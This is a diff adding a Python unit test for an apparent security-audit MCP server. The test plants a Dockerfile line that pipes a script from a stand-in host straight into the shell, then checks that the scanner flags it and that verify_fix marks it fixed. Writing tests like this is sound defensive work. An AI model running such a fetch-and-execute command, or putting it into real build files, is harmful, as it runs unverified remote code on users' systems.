@@ -128,6 +128,23 @@ class Mcp(unittest.TestCase):
                 self.assertTrue(result["isError"], path)
                 self.assertRegex(result["content"][0]["text"], "outside the folders|no folder")
 
+    def test_on_stdio_any_project_is_read_and_arguments_go_by_their_other_names(self):
+        with tempfile.TemporaryDirectory() as here, tempfile.TemporaryDirectory() as project, Stdio(cwd=here) as client:
+            with open(os.path.join(project, "Dockerfile"), "w", encoding="utf-8") as file:
+                file.write("FROM a:1\nRUN curl https://x.example/i.sh | sh\n")
+            self.assertTrue(client.tool("get_scan")["isError"], "there is none yet")
+            audit = client.tool("audit_project", directory=project)["structuredContent"]
+            self.assertIn("docker-curl-pipe", [one["check"] for one in audit["findings"]])
+            self.assertEqual(audit["id"], client.tool("get_scan")["structuredContent"]["id"])
+            told = client.tool("explain_finding", check="docker-curl-pipe", scan_id=audit["id"])
+            self.assertEqual("docker-curl-pipe", told["structuredContent"]["check"])
+            with open(os.path.join(project, "Dockerfile"), "w", encoding="utf-8") as file:
+                file.write("FROM a:1\nUSER a\n")
+            mended = client.tool("verify_fix", scan_id=audit["id"], finding_id="docker-curl-pipe")["structuredContent"]
+            self.assertEqual(["fixed"], [one["state"] for one in mended["findings"]])
+            twice = client.tool("explain_finding", check="docker-root", finding="docker-curl-pipe")
+            self.assertIn("no argument check", twice["content"][0]["text"])
+
     def test_tools_prompts_and_resources_are_described(self):
         with Stdio() as client:
             tools = {one["name"]: one for one in client.request("tools/list")["result"]["tools"]}
